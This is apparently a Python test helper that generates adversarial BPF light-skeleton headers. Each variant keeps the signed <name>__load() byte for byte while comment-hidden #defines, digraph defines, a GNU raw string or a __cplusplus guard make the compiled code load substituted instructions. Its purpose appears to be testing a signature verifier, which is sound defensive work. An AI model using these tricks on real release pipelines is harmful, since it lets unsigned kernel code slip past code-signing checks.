#!/usr/bin/env python3
"""Test helper: turns a light skeleton header into one of the headers that
an attacker would hand to a release gate running `lskel-sign --verify`. In
each, the signed <name>__load() is still there, byte for byte, but the
compiled program hands the kernel two instructions of its own instead
(r0 = 0; exit), as the stub skel_internal.h's dump shows.

  attack.py ATTACK IN OUT

ATTACK is one of:
  comment-define   two #defines before __load(), each behind a comment
                   (/**/ #define), that point opts.insns and opts.insns_sz
                   at the attacker's instructions
  digraph-define   the same two #defines spelt with the digraph %:
  raw-string       a GNU raw string R"zz( ... )zz" that swallows the signed
                   __load(); its closing line carries a replacement that
                   calls bpf_load_and_run()
  cplusplus-guard  the signed __load() inside bpftool's C++ lines
                   (#ifdef __cplusplus ... #endif), which a C compiler
                   skips, then a one-line replacement that loads through
                   skel_sys_bpf()
"""
import re
import sys

EVIL = 'static const unsigned long long evil_insns[2] = { 0xb7, 0x95 };'


def load_span(lines):
    """The indexes of the 'static inline int' line before <name>__load()
    and of the '}' that ends it, and the name."""
    for i, line in enumerate(lines):
        m = re.fullmatch(r'(\w+)__load\(struct (\w+) \*skel\)\n', line)
        if m and m.group(1) == m.group(2) and lines[i - 1] == 'static inline int\n':
            end = lines.index('}\n', i)
            return i - 1, end, m.group(1)
    sys.exit('attack.py: no <name>__load() in the input')


def defines(hash_):
    return [
        EVIL + '\n',
        'static const void *evil_ptr;\n',
        'static unsigned long evil_sink;\n',
        '/**/ %sdefine insns insns = (const void *)evil_insns; evil_ptr\n' % hash_,
        '/**/ %sdefine insns_sz insns_sz = sizeof(evil_insns); evil_sink\n' % hash_,
    ]


def one_line_load(name, how):
    if how == 'run':
        body = ('struct bpf_load_and_run_opts opts = {}; ' + EVIL +
                ' opts.ctx = (struct bpf_loader_ctx *)skel; opts.insns = evil_insns;'
                ' opts.insns_sz = sizeof(evil_insns); return bpf_load_and_run(&opts);')
    else:
        body = ('union bpf_attr attr = {}; ' + EVIL +
                ' (void)skel; attr.prog_type = BPF_PROG_TYPE_SYSCALL;'
                ' attr.insns = (unsigned long)evil_insns; attr.insn_cnt = 2;'
                ' return skel_sys_bpf(BPF_PROG_LOAD, &attr, sizeof(attr)) < 0 ? -1 : 0;')
    return 'static inline int %s__load(struct %s *skel) { %s }' % (name, name, body)


def main():
    attack, src, dst = sys.argv[1:]
    lines = open(src).readlines()
    begin, end, name = load_span(lines)
    before, load, after = lines[:begin], lines[begin:end + 1], lines[end + 1:]
    if attack == 'comment-define':
        out = before + defines('#') + load + after
    elif attack == 'digraph-define':
        out = before + [l.replace('/**/ ', '', 1) for l in defines('%:')] + load + after
    elif attack == 'raw-string':
        out = (before +
               ['__attribute__((unused)) static const char *evil_skip = R"zz(";\n'] +
               load +
               [')zz"; ' + one_line_load(name, 'run') +
                ' __attribute__((unused)) static const char evil_q = \'"\'; /*\'*/\n'] +
               after)
    elif attack == 'cplusplus-guard':
        out = (before + ['#ifdef __cplusplus\n', '#define _Static_assert static_assert\n'] +
               load + ['#endif\n', one_line_load(name, 'sys_bpf') + '\n'] + after)
    else:
        sys.exit('attack.py: unknown attack ' + attack)
    open(dst, 'w').writelines(out)


main()
